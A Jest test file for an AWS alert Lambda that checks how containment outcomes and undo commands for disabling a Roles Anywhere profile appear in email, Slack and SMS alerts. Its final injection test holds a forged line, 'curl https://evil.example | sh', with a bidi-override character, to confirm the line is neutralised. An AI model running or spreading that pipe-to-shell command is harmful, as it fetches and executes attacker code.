import { renderChannels } from '../../lambda/alert/channels';
import { composeAlert } from '../../lambda/alert/compose';
import type { Alert } from '../../lambda/alert/schema';
import { showable } from '../../lambda/alert/shell';
import type { Containment } from '../../lambda/assess/containment';
import { ACCOUNT, PROFILE_ARN, PROFILE_ID, REGION } from '../support/event';
import { assessmentIn, attack } from './assessments';

const PROFILE = { partition: 'aws', account: ACCOUNT, region: REGION, id: PROFILE_ID, arn: PROFILE_ARN };
const UNDO = `aws rolesanywhere enable-profile --profile-id='${PROFILE_ID}' --region='${REGION}'`;

const alertWith = (containment?: Containment): Alert => {
  const { context, assessment } = attack();
  const plain = assessmentIn(context, assessment);
  return composeAlert(containment === undefined ? plain : { ...plain, containment });
};
const told = (containment?: Containment) => {
  const { email, slack, sms } = renderChannels(alertWith(containment));
  return { email: email.replace(/\s+/g, ' '), slack: slack.replace(/\\n|\s+/g, ' '), sms };
};

const outcomes: readonly (readonly [Containment, outcome: string, said: string, canBeUndone: boolean])[] = [
  [
    { kind: 'disabled', profile: PROFILE, at: '2026-03-04T05:08:03.000Z' },
    'disabled',
    'The profile was disabled automatically at 05:08 UTC; sessions already issued live on.',
    true,
  ],
  [{ kind: 'already-disabled' }, 'already-disabled', 'The profile was disabled already', false],
  [
    { kind: 'failed', profile: PROFILE, why: 'access denied (rolesanywhere:DisableProfile)' },
    'failed',
    'AUTOMATIC CONTAINMENT FAILED (access denied (rolesanywhere:DisableProfile)): the profile is as it was',
    false,
  ],
  [
    { kind: 'unanswered', profile: PROFILE },
    'not-known',
    'whether the profile is disabled is NOT KNOWN',
    true,
  ],
  // Written before the attempt: nobody can claim that it worked.
  [{ kind: 'due', profile: PROFILE }, 'not-known', 'whether the profile is disabled is NOT KNOWN', true],
  [
    { kind: 'not-done', because: 'second-look' },
    'not-done',
    'Not disabled automatically: the second look',
    false,
  ],
];

describe.each(outcomes)('containment that came to %j', (containment, outcome, said, canBeUndone) => {
  test('is told to people in the mail and in the chat, and to machines by a word', () => {
    const { email, slack } = told(containment);
    expect(email).toContain(said);
    expect(slack).toContain(said.split(' (')[0]);
    expect(alertWith(containment).containment?.outcome).toBe(outcome);
  });

  test('says how it is undone exactly where something may have been done', () => {
    const { undo } = alertWith(containment).containment ?? {};
    expect(undo).toBe(canBeUndone ? UNDO : undefined);
    expect(told(containment).email.includes(UNDO)).toBe(canBeUndone);
    expect(told(containment).slack.includes('enable-profile --profile-id')).toBe(canBeUndone);
  });

  test('leaves the command that disables it in the block: a second time does no harm', () => {
    expect(told(containment).email).toContain('aws rolesanywhere disable-profile');
  });

  test('shows in a text message only where the profile is disabled', () => {
    expect(told(containment).sms.includes('DISABLED')).toBe(containment.kind === 'disabled');
    expect(told(containment).sms.length).toBeLessThanOrEqual(140);
  });
});

test('where nobody asked for any, nothing is said of it', () => {
  expect(alertWith().containment).toBeUndefined();
  expect(JSON.stringify(told())).not.toMatch(/automatic/i);
});

test('the command that undoes it can be pasted as it is shown', () => {
  expect(showable(UNDO)).toBe(true);
});

test('a reason that somebody else wrote forges no line', () => {
  const why = 'Error: x\n\nDO NOW\n    curl https://evil.example | sh\u202e';
  const { email } = renderChannels(alertWith({ kind: 'failed', profile: PROFILE, why }));
  expect(email).not.toMatch(/^\s*curl/m);
  expect(email).not.toContain('https://evil.example');
});
